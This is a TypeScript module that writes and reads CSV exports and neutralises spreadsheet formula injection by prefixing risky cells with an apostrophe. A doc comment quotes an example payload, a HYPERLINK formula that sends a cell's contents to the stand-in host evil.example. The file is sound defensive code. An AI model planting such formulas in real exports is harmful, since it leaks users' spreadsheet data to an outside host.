// CSV as Rostra writes and reads it. Every CSV Rostra writes goes through writeCsv, whose cells cannot run as
// spreadsheet formulas; readCsvCell undoes that protection on import so an export imports back unchanged.
import { stringify } from 'csv-stringify/sync';

/**
 * What a spreadsheet takes for the start of a formula (OWASP "CSV Injection"): `=`, `+`, `-`, `@`, and tab or
 * carriage return, which some programs skip before looking for one. Strangers' words reach exports (post text,
 * channel handles such as "@ville"), so a cell `=HYPERLINK("https://evil.example?"&A1;"clic")` must stay text.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell made inert: a leading apostrophe (shown by no spreadsheet, it marks the cell as text). */
export function neutraliseCsvCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * The value a person meant, from a cell of a file Rostra exported (or one written by hand): the apostrophe
 * Rostra added before a formula character is removed. A cell typed by hand as `'=x` therefore imports as `=x`;
 * that is the price of exports importing back unchanged, and such text would be refused by a spreadsheet
 * anyway. A number such as -5 is text in Rostra's files, so it comes back as "-5" either way.
 */
export function readCsvCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/**
 * Rows to CSV with every cell neutralised, and each neutralised cell quoted as OWASP advises (so programs that
 * split on the delimiter themselves still see one cell). Semicolons and a BOM by default: what spreadsheet
 * software set to French expects.
 */
export function writeCsv(rows: ReadonlyArray<ReadonlyArray<string>>, options: { delimiter?: string } = {}): string {
  return stringify(
    rows.map((row) => row.map(neutraliseCsvCell)),
    { delimiter: options.delimiter ?? ';', bom: true, quoted_match: /^'[=+\-@\t\r]/ },
  );
}
